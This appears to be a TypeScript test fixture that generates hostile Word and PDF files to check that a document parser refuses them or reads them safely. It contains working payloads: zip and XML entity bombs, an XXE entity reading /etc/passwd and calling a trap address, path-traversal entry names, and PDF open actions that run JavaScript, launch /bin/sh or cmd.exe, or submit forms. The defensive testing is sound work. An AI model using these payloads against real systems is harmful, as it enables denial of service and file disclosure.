import { deflateSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { makeDocx, p } from '../unit/backend/documents/make-docx.ts';
import { textPdf, writePdf } from './write-pdf.ts';

/** One file made to do harm, or to look as if it did. */
export interface HostileFile {
  name: string;
  make: () => Uint8Array;
  /** What may come of it: `read`, or the code of its refusal. */
  expected: readonly string[];
  /** Words that must be among those read. */
  words?: string;
  /** Only in the long run: it takes seconds by design. */
  isSlow?: boolean;
}

const WORDS = 'Wren likes the tide mill.';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** Word files made to do harm. `trap` is an address that nothing may ever ask for. */
export function hostileDocx(trap: string): HostileFile[] {
  const read = (name: string, make: () => Uint8Array): HostileFile => ({
    name,
    make,
    expected: ['read'],
    words: WORDS,
  });
  return [
    { name: 'flat zip bomb', make: () => docxWith(blank(160)), expected: ['TOO_LARGE'] },
    {
      name: 'zip bomb that lies of its size',
      make: () => lieOfSize(docxWith(blank(64))),
      expected: ['DAMAGED_FILE', 'TOO_LARGE'],
    },
    {
      name: 'bomb of blanks below the limit',
      make: () => docxWith(blank(100)),
      expected: ['DAMAGED_FILE', 'OUT_OF_MEMORY'],
      isSlow: true,
    },
    read('zip bomb inside the package', () =>
      good({
        'word/media/more.zip': zipSync({ 'a.zip': zipSync({ b: blank(40) }) }),
        'customXml/item1.xml': blank(40),
      }),
    ),
    { name: 'entity bomb', make: () => docxOf(entityBomb()), expected: ['DAMAGED_FILE'] },
    {
      name: 'entity from a file',
      make: () =>
        docxOf(`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY f SYSTEM "${trap}/e">]>${body('&e;&f;')}`),
      expected: ['DAMAGED_FILE'],
    },
    read('names that lead out of the package', () =>
      good({
        '../../../outside.xml': strToU8('<x/>'),
        '/etc/outside.xml': strToU8('<x/>'),
        'C:\\outside.xml': strToU8('<x/>'),
        'word/__proto__': strToU8('x'),
      }),
    ),
    { name: '100,000 entries', make: () => good(manyEntries(100_000)), expected: ['TOO_LARGE'], isSlow: true },
    { name: '12,000 entries', make: () => good(manyEntries(12_000)), expected: ['TOO_LARGE'] },
    { name: 'XML nested 50,000 deep', make: () => docxOf(body('<w:p>'.repeat(50_000))), expected: ['DAMAGED_FILE'] },
    {
      name: 'tables nested 60 deep',
      make: () => makeDocx({ body: nestedTables(60) }),
      expected: ['read'],
      words: WORDS,
    },
    {
      name: 'numbers in the thousand millions, in Roman and in letters',
      make: () => hugeNumbers(),
      expected: ['read'],
      words: WORDS,
    },
    read('a table cell over a thousand million columns', () =>
      makeDocx({
        body: `<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>${p(WORDS)}</w:tc></w:tr></w:tbl>`,
      }),
    ),
    read('numbers that are none, or too large for what they count', () => wrongNumbers()),
    read('styles that are based on each other', () =>
      makeDocx({
        body: p(WORDS, '<w:pStyle w:val="a"/>'),
        styles:
          '<w:style w:styleId="a" w:type="paragraph"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b" w:type="paragraph"><w:basedOn w:val="a"/></w:style>',
      }),
    ),
    read('numbering that refers to itself', () =>
      makeDocx({
        body: p(WORDS, '<w:numPr><w:ilvl w:val="99999"/><w:numId w:val="1"/></w:numPr>'),
        numbering:
          '<w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="x"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>',
      }),
    ),
    read('a template and pictures from elsewhere', () =>
      good({ 'word/_rels/document.xml.rels': externalRelationships(trap) }),
    ),
    read('fonts and pictures that are damaged', () =>
      good({ 'word/media/image1.png': strToU8('no picture'), 'word/fonts/font1.odttf': strToU8('no font') }),
    ),
    read('fields and content controls that never end', () =>
      makeDocx({ body: `${p(WORDS)}${'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>'.repeat(200)}` }),
    ),
    ...['document.macroEnabled', 'template', 'template.macroEnabledTemplate'].map((type) =>
      read(`main part of the type ${type}`, () =>
        makeDocx({ body: p(WORDS), mainType: mainType(type), extra: { 'word/vbaProject.bin': strToU8('macro') } }),
      ),
    ),
    {
      name: 'a zip that is no Word file',
      make: () => zipSync({ 'notes.txt': strToU8('hello') }),
      expected: ['UNSUPPORTED_FORMAT'],
    },
    {
      name: 'a workbook',
      make: () =>
        zipSync({
          '[Content_Types].xml': strToU8(
            '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
          ),
        }),
      expected: ['UNSUPPORTED_FORMAT'],
    },
    { name: 'an empty zip', make: () => zipSync({}), expected: ['DAMAGED_FILE'] },
    {
      name: 'the signature of a zip, and noise',
      make: () => new Uint8Array([0x50, 0x4b, 3, 4, ...noise(3000)]),
      expected: ['DAMAGED_FILE'],
    },
    {
      name: 'a paragraph of eight million characters',
      make: () => makeDocx({ body: p(`${WORDS} ${'a '.repeat(4_000_000)}`) }),
      expected: ['read'],
      isSlow: true,
    },
    {
      name: '200,000 empty paragraphs',
      make: () => makeDocx({ body: `${p(WORDS)}${'<w:p/>'.repeat(200_000)}` }),
      expected: ['read'],
      words: WORDS,
      isSlow: true,
    },
  ];
}

/** PDF files made to do harm. `trap` is an address that nothing may ever ask for. */
export function hostilePdf(trap: string): HostileFile[] {
  const read = (name: string, make: () => Uint8Array): HostileFile => ({
    name,
    make,
    expected: ['read'],
    words: WORDS,
  });
  const actions = {
    JavaScript: `<< /S /JavaScript /JS (app.launchURL\\("${trap}/js"\\); while\\(true\\){}) >>`,
    Launch: '<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>',
    URI: `<< /S /URI /URI (${trap}/uri) >>`,
    SubmitForm: `<< /S /SubmitForm /F (${trap}/form) >>`,
    GoToR: `<< /S /GoToR /F (${trap}/other.pdf) /D [0 /Fit] >>`,
  };
  return [
    ...Object.entries(actions).map(([kind, action]) =>
      read(`an open action: ${kind}`, () =>
        textPdf(WORDS, { catalogue: `/OpenAction ${action} /AA << /WC ${action} >>` }),
      ),
    ),
    read('a picture and a font from elsewhere', () =>
      textPdf(WORDS, {
        resources: `/XObject << /I << /Type /XObject /Subtype /Image /F << /FS /URL /F (${trap}/i.png) >> /Length 0 >> >>`,
      }),
    ),
    read('cross-references that go round in a circle', () => textPdf(WORDS, { trailer: '/Prev 0' })),
    read('a page tree whose root is its own child', () => textPdf(WORDS, { kids: '[3 0 R 2 0 R]', count: 2 })),
    {
      name: 'a page tree without an end',
      make: () => textPdf(WORDS, { kids: '[2 0 R]', count: 1 }),
      expected: ['DAMAGED_FILE', 'read'],
    },
    {
      name: 'a count of two thousand million pages',
      make: () => textPdf(WORDS, { count: 2_147_483_647 }),
      expected: ['read', 'TOO_LARGE'],
    },
    { name: 'a count below nothing', make: () => textPdf(WORDS, { count: -5 }), expected: ['read', 'DAMAGED_FILE'] },
    {
      name: 'an object stream that says it holds a thousand million objects',
      make: () => objectStreamBomb(),
      expected: ['read', 'DAMAGED_FILE'],
    },
    {
      name: 'a content stream packed ten times over',
      make: () =>
        textPdf(WORDS, {
          content: packed(Buffer.from(`BT /F1 12 Tf 72 700 Td (${WORDS}) Tj ET`), 10),
          filter: `[${'/FlateDecode '.repeat(10)}]`,
        }),
      expected: ['read'],
      words: WORDS,
    },
    {
      name: 'a content stream of 4 GB of blanks',
      make: () =>
        textPdf(WORDS, {
          content: packed(packed(Buffer.alloc(64 * 1024 * 1024, 32), 1), 1),
          filter: '[/FlateDecode /FlateDecode]',
        }),
      expected: ['read', 'OUT_OF_MEMORY', 'TIMED_OUT'],
      isSlow: true,
    },
    {
      name: 'half a million saved states of the pen',
      make: () => textPdf(WORDS, { content: Buffer.from('q '.repeat(500_000)) }),
      // pdf.js takes time in the square of their number.
      expected: ['read', 'TIMED_OUT'],
      isSlow: true,
    },
    { name: 'a form that draws itself', make: () => selfDrawingForm(), expected: ['read'] },
    {
      name: 'text at places that are no numbers',
      make: () =>
        textPdf(WORDS, {
          content: Buffer.from(`BT /F1 1e38 Tf 1e38 0 0 1e-38 1e38 -1e38 Tm (${WORDS}) Tj 0 0 0 0 0 0 Tm (x) Tj ET`),
        }),
      expected: ['read'],
    },
    {
      name: 'a page a thousand million points wide',
      make: () => textPdf(WORDS, { mediaBox: '[0 0 1e9 1e9]' }),
      expected: ['read'],
      words: WORDS,
    },
    {
      name: 'a page of no size',
      make: () => textPdf(WORDS, { mediaBox: '[0 0 0 0]' }),
      expected: ['read'],
      words: WORDS,
    },
    { name: 'a damaged embedded font', make: () => textPdf(WORDS, { font: damagedFont() }), expected: ['read'] },
    {
      name: 'lines by the ten thousand',
      make: () =>
        textPdf(WORDS, { content: Buffer.from(`BT /F1 12 Tf 72 700 Td (${WORDS}) Tj ET ${rulings(20_000)}`) }),
      expected: ['read'],
      words: WORDS,
    },
    {
      name: 'a header and noise',
      make: () => new Uint8Array([...strToU8('%PDF-1.7\n'), ...noise(5000)]),
      expected: ['DAMAGED_FILE'],
    },
    { name: 'a header alone', make: () => strToU8('%PDF-1.7'), expected: ['DAMAGED_FILE'] },
    {
      name: 'certificates in place of a password',
      make: () =>
        textPdf(WORDS, {
          trailer: '/Encrypt << /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4 >> /ID [<00><00>]',
        }),
      expected: ['UNSUPPORTED_ENCRYPTION'],
    },
    {
      name: 'no text at all',
      make: () => textPdf('', { content: Buffer.from('0 0 100 100 re f') }),
      expected: ['read'],
    },
  ];
}

/** The same bytes, cut off after each `step` of them. */
export function* truncated(bytes: Uint8Array, step: number): Generator<Uint8Array> {
  for (let length = step; length < bytes.length; length += step) yield bytes.slice(0, length);
}

/** The same bytes, each time with a few of them changed; the same `seed` gives the same changes. */
export function* flipped(bytes: Uint8Array, count: number, seed: number): Generator<Uint8Array> {
  const random = randomFrom(seed);
  for (let made = 0; made < count; made += 1) {
    const copy = bytes.slice();
    const changes = 1 + Math.floor(random() * 12);
    for (let change = 0; change < changes; change += 1) {
      copy[Math.floor(random() * copy.length)] = Math.floor(random() * 256);
    }
    yield copy;
  }
}

/** Like `flipped`, but the part itself is changed and packed again, so that the zip is whole and its XML is not. */
export function* flippedParts(parts: Record<string, Uint8Array>, count: number, seed: number): Generator<Uint8Array> {
  const names = Object.keys(parts);
  const changed = names.map((name, index) => [
    ...flipped(parts[name] ?? new Uint8Array(), Math.ceil(count / names.length), seed + index),
  ]);
  for (const [index, versions] of changed.entries()) {
    for (const version of versions) yield zipSync({ ...parts, [names[index] ?? '']: version }, { level: 1 });
  }
}

/** Numbers from 0 to 1, the same for the same seed (mulberry32). */
export function randomFrom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

function noise(length: number): Uint8Array {
  const random = randomFrom(7);
  return Uint8Array.from({ length }, () => Math.floor(random() * 256));
}

function blank(megabytes: number): Uint8Array {
  return new Uint8Array(megabytes * 1024 * 1024).fill(32);
}

function good(extra: Record<string, Uint8Array>): Uint8Array {
  return makeDocx({ body: p(WORDS), extra });
}

function docxWith(main: Uint8Array): Uint8Array {
  return makeDocx({ body: '', extra: { 'word/document.xml': main } });
}

function docxOf(xml: string): Uint8Array {
  return docxWith(strToU8(xml));
}

function body(inside: string): string {
  return `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${p(WORDS)}${inside}</w:body></w:document>`;
}

function entityBomb(): string {
  const levels = Array.from({ length: 12 }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`);
  return `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">${levels.join('')}]>${body('<w:p><w:r><w:t>&e12;</w:t></w:r></w:p>')}`;
}

function manyEntries(count: number): Record<string, Uint8Array> {
  return Object.fromEntries(Array.from({ length: count }, (_, index) => [`word/x${index}.xml`, new Uint8Array()]));
}

/** Every size that the zip says of its entries is made 100 bytes; what is packed inside stays. */
function lieOfSize(zip: Uint8Array): Uint8Array {
  const bytes = Buffer.from(zip);
  for (let at = 0; at + 30 < bytes.length; at += 1) {
    const mark = bytes.readUInt32LE(at);
    if (mark === 0x04034b50) bytes.writeUInt32LE(100, at + 22);
    if (mark === 0x02014b50) bytes.writeUInt32LE(100, at + 24);
  }
  return new Uint8Array(bytes);
}

function nestedTables(depth: number): string {
  let inside = p(WORDS);
  for (let level = 0; level < depth; level += 1) inside = `<w:tbl><w:tr><w:tc>${inside}${p('x')}</w:tc></w:tr></w:tbl>`;
  return inside;
}

function hugeNumbers(): Uint8Array {
  const formats = ['upperRoman', 'lowerLetter', 'upperLetter', 'lowerRoman', 'ordinalText', 'cardinalText'];
  const levels = formats.map(
    (format, id) =>
      `<w:abstractNum w:abstractNumId="${id}"><w:lvl w:ilvl="0"><w:start w:val="2147483000"/><w:numFmt w:val="${format}"/><w:lvlText w:val="%1."/></w:lvl></w:abstractNum>`,
  );
  const numbers = formats.map((_, id) => `<w:num w:numId="${id + 1}"><w:abstractNumId w:val="${id}"/></w:num>`);
  const paragraphs = formats.map((_, id) =>
    p(WORDS, `<w:numPr><w:ilvl w:val="0"/><w:numId w:val="${id + 1}"/></w:numPr>`).repeat(40),
  );
  return makeDocx({ body: paragraphs.join(''), numbering: [...levels, ...numbers].join('') });
}

function wrongNumbers(): Uint8Array {
  const values = ['abc', '-7', '1.5', '1e400', '', '99'];
  const paragraphs = values.map((value) =>
    p(
      WORDS,
      `<w:outlineLvl w:val="${value}"/><w:numPr><w:ilvl w:val="${value}"/><w:numId w:val="1"/></w:numPr><w:ind w:left="${value}"/>`,
      `<w:sz w:val="${value}"/>`,
    ),
  );
  const cells = values.map(
    (value) =>
      `<w:tbl><w:tr><w:trPr><w:gridBefore w:val="${value}"/></w:trPr><w:tc><w:tcPr><w:gridSpan w:val="${value}"/><w:vMerge w:val="${value}"/></w:tcPr>${p(`• ${WORDS}`)}</w:tc><w:tc>${p(WORDS)}</w:tc></w:tr></w:tbl>`,
  );
  const levels = values.map(
    (value) =>
      `<w:lvl w:ilvl="${value}"><w:start w:val="${value}"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%1."/><w:lvlRestart w:val="${value}"/></w:lvl>`,
  );
  return makeDocx({
    body: [...paragraphs, ...cells].join(''),
    numbering: `<w:abstractNum w:abstractNumId="0">${levels.join('')}</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>`,
  });
}

function externalRelationships(trap: string): Uint8Array {
  const external = ['attachedTemplate', 'image', 'hyperlink', 'oleObject', 'header', 'frame', 'subDocument'];
  const items = external.map(
    (kind, index) =>
      `<Relationship Id="x${index}" Type="${OFFICE}/${kind}" Target="${trap}/${kind}" TargetMode="External"/>`,
  );
  return strToU8(
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items.join('')}</Relationships>`,
  );
}

function mainType(type: string): string {
  return type.includes('macro')
    ? `application/vnd.ms-word.${type}.main+xml`
    : `application/vnd.openxmlformats-officedocument.wordprocessingml.${type}.main+xml`;
}

/** Packed several times over: a megabyte of blanks becomes a few bytes. */
function packed(bytes: Buffer, times: number): Buffer {
  let result = bytes;
  for (let time = 0; time < times; time += 1) result = deflateSync(result, { level: 9 });
  return result;
}

function objectStreamBomb(): Uint8Array {
  return writePdf({
    objects: [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
      {
        dictionary: '/Type /ObjStm /N 1000000000 /First 10 /Filter /FlateDecode',
        data: deflateSync(Buffer.alloc(1024 * 1024, '1 ')),
      },
    ],
  });
}

function selfDrawingForm(): Uint8Array {
  return writePdf({
    objects: [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /F 5 0 R >> >> >>',
      { dictionary: '', data: Buffer.from('/F Do') },
      {
        dictionary: '/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /F 5 0 R >> >>',
        data: Buffer.from('/F Do /F Do'),
      },
    ],
  });
}

function damagedFont(): string {
  return '<< /Type /Font /Subtype /TrueType /BaseFont /ABCDEF+Broken /FirstChar 32 /LastChar 33 /Widths [1e9 -5] /FontDescriptor << /Type /FontDescriptor /FontName /ABCDEF+Broken /Flags 4 /FontFile2 4 0 R >> /ToUnicode 4 0 R >>';
}

function rulings(count: number): string {
  return Array.from(
    { length: count },
    (_, line) => `${line % 500} ${line % 700} m ${(line * 7) % 590} ${line % 700} l S`,
  ).join('\n');
}
